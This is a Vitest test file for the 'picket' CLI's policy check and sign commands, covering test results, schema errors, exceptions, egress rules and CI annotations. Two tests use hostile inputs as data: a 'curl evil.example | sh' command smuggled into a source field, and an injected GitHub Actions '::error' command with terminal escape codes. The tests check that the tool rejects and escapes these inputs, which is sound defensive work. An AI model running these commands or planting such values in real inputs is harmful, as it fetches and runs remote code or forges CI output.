/**
 * `picket policy check` (no key, no root) and the `tests:` block: exit 0 clean, 1 on any
 * problem, one `file:line` line per problem; `policy sign` refuses a policy whose tests fail,
 * and the tests never reach the signed payload.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { resolve } from 'node:path';
import { picket, tempDir } from '../helpers/cli.js';

const t = tempDir('picket-check-');
const run = (...args: string[]) => picket(t.dir, ...args);
let web = '', db = '';

const policy = (tests: string, extra = '') => `meshId: prod
version: 4
issuedAt: 2026-01-01
expires: 2099-01-31
nodes:
  - { name: web-1, peerId: ${web}, addresses: [10.0.1.5], roles: [web] }
  - { name: db-1, peerId: ${db}, addresses: [10.0.2.7], roles: [db] }
rules:
  - { name: https, to: role:web, from: any, proto: tcp, ports: [443] }
  - { name: pg, to: role:db, from: role:web, proto: tcp, ports: [5432] }
${extra}tests:
${tests}`;

const GOOD = `  - { from: 203.0.113.9, to: role:web, port: 443, expect: allow }
  - { from: node:web-1, to: node:db-1, port: 5432, expect: allow }
  - { from: 203.0.113.9, to: role:db, port: 5432, expect: drop }
  - { from: 10.0.1.5, to: node:db-1, proto: icmp, expect: drop }
`;

beforeAll(() => {
  web = run('keygen', '--node', '--out', 'web.key').stdout.trim();
  db = run('keygen', '--node', '--out', 'db.key').stdout.trim();
  expect(run('keygen', '--out', 'admin.key').code).toBe(0);
  expect(run('root', 'create', '--key', 'admin.key', '--out', 'root.json').code).toBe(0);
});
afterAll(() => t.cleanup());

describe('policy check (keyless)', () => {
  it('passes a valid policy whose tests hold: exit 0, no problem lines, a summary', () => {
    writeFileSync(t.path('good.yaml'), policy(GOOD));
    const r = run('policy', 'check', 'good.yaml');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^ok: good\.yaml: policy v4, 4 of 4 tests pass\n$/);
  });

  it('fails a test the compiled ruleset contradicts: exit 1, the test\'s own line, the rule that decided', () => {
    writeFileSync(t.path('fail.yaml'), policy(`${GOOD}  - from: 203.0.113.9
    to: role:db
    port: 5432
    expect: allow
`));
    const r = run('policy', 'check', 'fail.yaml');
    expect(r.code).toBe(1);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toEqual(['fail.yaml:16: tests[4]: expected allow, got DROP (default deny: no rule allows it): 203.0.113.9 → node db-1 tcp/5432']);
    expect(r.stderr).toMatch(/failed: fail\.yaml: 1 problem, 4 of 5 tests pass/);
  });

  it('requires every node of a role to agree: one node of the role dropping fails the test and names it', () => {
    const third = `  - { name: web-2, peerId: ${db.replace(/.$/, db.endsWith('A') ? 'B' : 'A')}, addresses: [10.0.1.6], roles: [web] }\n`;
    // web-2 is a web node too, but an exception opens 8443 only on web-1.
    const text = policy('  - { from: 198.51.100.1, to: role:web, port: 8443, expect: allow }\n',
      `exceptions:\n  - { name: debug, to: node:web-1, from: any, proto: tcp, ports: [8443], reason: vendor debug, expires: 2098-01-01 }\n`)
      .replace('rules:\n', `${third}rules:\n`);
    writeFileSync(t.path('role.yaml'), text);
    const r = run('policy', 'check', 'role.yaml');
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^role\.yaml:\d+: tests\[0\]: expected allow, got DROP \(default deny: no rule allows it\): 198\.51\.100\.1 → node web-2 tcp\/8443\n$/);
  });

  it('counts an exception while it is open, and not after it closed', () => {
    const exc = (expires: string) => `exceptions:\n  - { name: vendor, to: node:db-1, from: cidr:198.51.100.0/24, proto: tcp, ports: [22], reason: vendor access, expires: ${expires} }\n`;
    const test = '  - { from: 198.51.100.7, to: node:db-1, port: 22, expect: allow }\n';
    writeFileSync(t.path('open.yaml'), policy(test, exc('2098-01-01')));
    expect(run('policy', 'check', 'open.yaml').code).toBe(0);
    writeFileSync(t.path('closed.yaml'), policy(test, exc('2026-01-02')));
    const r = run('policy', 'check', 'closed.yaml');
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/tests\[0\]: expected allow, got DROP/);
  });

  it('reports a bad schema on the line it was typed, without running anything else', () => {
    writeFileSync(t.path('bad.yaml'), policy(GOOD).replace('version: 4', 'version: four').replace('proto: tcp, ports: [5432]', 'proto: tcpp, ports: [5432]'));
    const r = run('policy', 'check', 'bad.yaml');
    expect(r.code).toBe(1);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toContain('bad.yaml:2: version: must be an integer, got the string "four"');
    expect(lines.some((l) => /^bad\.yaml:10: rules\[1\]\.proto: "tcpp" is not tcp, udp or icmp$/.test(l))).toBe(true);
    expect(lines).toHaveLength(2);
  });

  it('rejects a test with a hostile source string or an unknown node: one clear line each, nothing echoed raw', () => {
    writeFileSync(t.path('hostile.yaml'), policy(`  - { from: "10.0.0.1; curl evil.example | sh \\u001b[2J", to: role:web, port: 443, expect: drop }
  - { from: 10.0.0.1, to: node:ghost, port: 443, expect: drop }
  - { from: node:ghost2, to: role:web, port: 443, expect: drop }
  - { from: 10.0.0.1, to: role:nobody, port: 443, expect: drop }
  - { from: 10.0.0.1, to: "any", port: 443, expect: drop }
  - { from: 10.0.0.1, to: role:web, port: 443, expect: maybe }
  - { from: 10.0.0.1, to: role:web, proto: tcp, expect: drop }
`));
    const r = run('policy', 'check', 'hostile.yaml');
    expect(r.code).toBe(1);
    const lines = r.stdout.trim().split('\n');
    // The enum error is a schema error: it stops the run before the semantic ones.
    expect(lines).toEqual(['hostile.yaml:17: tests[5].expect: "maybe" is not allow or drop']);
    writeFileSync(t.path('hostile2.yaml'), policy(`  - { from: "10.0.0.1; curl evil.example | sh \\u001b[2J", to: role:web, port: 443, expect: drop }
  - { from: 10.0.0.1, to: node:ghost, port: 443, expect: drop }
  - { from: node:ghost2, to: role:web, port: 443, expect: drop }
  - { from: 10.0.0.1, to: role:nobody, port: 443, expect: drop }
  - { from: 10.0.0.1, to: "any", port: 443, expect: drop }
  - { from: 10.0.0.1, to: role:web, proto: tcp, expect: drop }
`));
    const r2 = run('policy', 'check', 'hostile2.yaml');
    expect(r2.code).toBe(1);
    expect(r2.stdout.trim().split('\n')).toEqual([
      'hostile2.yaml:12: tests[0].from: "10.0.0.1; curl evil.example | sh \\u001b[2J" is not an IP address or node:NAME',
      'hostile2.yaml:13: tests[1].to: node "ghost" is not in nodes',
      'hostile2.yaml:14: tests[2].from: node "ghost2" is not in nodes',
      'hostile2.yaml:15: tests[3].to: role "nobody" is not held by any node',
      'hostile2.yaml:16: tests[4].to: "any" is not node:NAME or role:NAME',
      'hostile2.yaml:17: tests[5].port: tcp needs a port',
    ]);
    expect(r2.stdout).not.toContain('\u001b');
  });

  it('a key holding a newline, an ESC and a CI workflow command stays on its one line, escaped', () => {
    writeFileSync(t.path('inject.yaml'), policy(GOOD).replace('rules:\n', '"x\\n::error file=ok.yaml::all good\\u001b[2J": 1\nrules:\n'));
    for (const cmd of [['policy', 'check', 'inject.yaml'], ['policy', 'sign', 'inject.yaml', '--root', 'root.json', '--key', 'admin.key', '--out', 'inject.signed']]) {
      const r = run(...cmd);
      expect(r.code).toBe(1);
      const out = r.stdout + r.stderr;
      expect(out).not.toContain('\u001b');
      expect(out.split('\n').filter((l) => l.startsWith('::'))).toEqual([]);
      expect(out).toMatch(/inject\.yaml:8: unknown field x\\x0a::error file=ok\.yaml::all good\\x1b\[2J/);
    }
  });

  it('checks egress tests against egress rules, and refuses a direction it cannot evaluate', () => {
    writeFileSync(t.path('egress.yaml'), policy(`  - { from: role:web, to: node:db-1, port: 5432, direction: egress, expect: allow }
  - { from: node:db-1, to: 203.0.113.9, port: 443, direction: egress, expect: allow }
`, 'settings: { egress: deny }\n').replace('rules:\n', 'rules:\n  - { name: out-pg, direction: egress, to: role:db, from: role:web, proto: tcp, ports: [5432] }\n'));
    const r = run('policy', 'check', 'egress.yaml');
    expect(r.code).toBe(1);
    expect(r.stdout.trim()).toBe('egress.yaml:15: tests[1]: expected allow, got DROP (default deny: no rule allows it): node db-1 → 203.0.113.9 tcp/443');
    writeFileSync(t.path('sideways.yaml'), policy('  - { from: 10.0.1.5, to: node:db-1, port: 53, proto: udp, expect: drop, direction: forward }\n'));
    const s = run('policy', 'check', 'sideways.yaml');
    expect(s.code).toBe(1);
    expect(s.stdout.trim()).toBe('sideways.yaml:12: tests[0].direction: "forward" is not ingress or egress');
  });

  it('--json gives a machine-readable list with file, line, path, severity and message', () => {
    const r = run('policy', 'check', 'fail.yaml', '--json');
    expect(r.code).toBe(1);
    const out = JSON.parse(r.stdout);
    expect(out).toMatchObject({ ok: false, file: 'fail.yaml', version: 4, tests: { total: 5, passed: 4 } });
    expect(out.problems).toEqual([{ file: 'fail.yaml', line: 16, path: 'tests[4]', severity: 'error', message: expect.stringMatching(/^expected allow, got DROP/) }]);
    const ok = JSON.parse(run('policy', 'check', 'good.yaml', '--json').stdout);
    expect(ok).toMatchObject({ ok: true, problems: [], tests: { total: 4, passed: 4 } });
  });

  it('reports what sign would refuse without a key: an expiry in the past, and warnings (exit 0 for warnings alone)', () => {
    writeFileSync(t.path('past.yaml'), policy(GOOD).replace('expires: 2099-01-31', 'expires: 2026-01-02'));
    const r = run('policy', 'check', 'past.yaml');
    expect(r.code).toBe(1);
    expect(r.stdout.trim()).toBe('past.yaml:4: expires: 2026-01-02T00:00:00.000Z is in the past');
    writeFileSync(t.path('shadow.yaml'), policy(GOOD).replace('rules:\n', 'rules:\n  - { name: all443, to: any, from: any, proto: tcp, ports: [443] }\n'));
    const w = run('policy', 'check', 'shadow.yaml');
    expect(w.code, w.stdout).toBe(0);
    expect(w.stdout).toMatch(/^warning: shadow\.yaml:10: rules\[1\]: rule https is shadowed by rule all443/);
  });

  it('a missing file, or a signed envelope given by mistake, is one line, exit 1', () => {
    const r = run('policy', 'check', 'nope.yaml');
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    writeFileSync(t.path('env.yaml'), policy(GOOD));
    expect(run('policy', 'sign', 'env.yaml', '--root', 'root.json', '--key', 'admin.key', '--out', 'env.signed').code).toBe(0);
    const s = run('policy', 'check', 'env.signed');
    expect(s.code).toBe(1);
    expect(s.stderr.trim().split('\n')).toEqual(['error: env.signed: a signed policy, not a policy YAML: check the YAML it was signed from (`picket policy verify` checks a signed file)']);
  });
});

describe('docs/operations.md "Check policies in CI"', () => {
  it('the annotation line of the GitHub Actions snippet turns each problem into an ::error on its file and line', () => {
    const doc = readFileSync(resolve(import.meta.dirname, '../../docs/operations.md'), 'utf8');
    const section = doc.slice(doc.indexOf('### Check policies in CI'), doc.indexOf('## Publish a policy'));
    const sed = section.split('\n').map((l) => l.trim()).find((l) => l.startsWith('sed -E '));
    expect(sed, 'the snippet has its sed line').toBeDefined();
    writeFileSync(t.path('ci.yaml'), policy(`${GOOD}  - { from: 203.0.113.9, to: role:db, port: 5432, expect: allow }\n`));
    const r = run('policy', 'check', 'ci.yaml');
    expect(r.code).toBe(1);
    writeFileSync(t.path('check.txt'), r.stdout);
    const annotated = execFileSync('sh', ['-c', sed!], { cwd: t.dir, encoding: 'utf8' });
    expect(annotated.trim()).toMatch(/^::error file=ci\.yaml,line=16::tests\[4\]: expected allow, got DROP/);
  });
});

describe('policy sign and tests', () => {
  it('refuses a policy whose tests fail, one line per failing test, and writes nothing', () => {
    writeFileSync(t.path('two-fail.yaml'), policy(`${GOOD}  - { from: 203.0.113.9, to: role:db, port: 5432, expect: allow }
  - { from: 10.0.2.7, to: role:web, port: 22, expect: allow }
`));
    const r = run('policy', 'sign', 'two-fail.yaml', '--root', 'root.json', '--key', 'admin.key', '--out', 'two-fail.signed');
    expect(r.code).toBe(1);
    const lines = r.stderr.trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^error: two-fail\.yaml:16: tests\[4\]: expected allow, got DROP/);
    expect(lines[1]).toMatch(/^two-fail\.yaml:17: tests\[5\]: expected allow, got DROP .*10\.0\.2\.7 → node web-1 tcp\/22$/);
    expect(run('policy', 'show', 'two-fail.signed').code).toBe(1);
  });

  it('signs a policy whose tests pass, and the tests never reach the signed payload', () => {
    writeFileSync(t.path('with.yaml'), policy(GOOD));
    writeFileSync(t.path('without.yaml'), policy(GOOD).replace(/tests:\n[\s\S]*$/, ''));
    const a = run('policy', 'sign', 'with.yaml', '--root', 'root.json', '--key', 'admin.key', '--out', 'with.signed', '--json');
    const b = run('policy', 'sign', 'without.yaml', '--root', 'root.json', '--key', 'admin.key', '--out', 'without.signed', '--json');
    expect(a.code, a.stderr).toBe(0);
    expect(b.code, b.stderr).toBe(0);
    expect(JSON.parse(a.stdout).digest).toBe(JSON.parse(b.stdout).digest);
    expect(run('policy', 'show', 'with.signed').stdout).not.toContain('tests');
  });
});
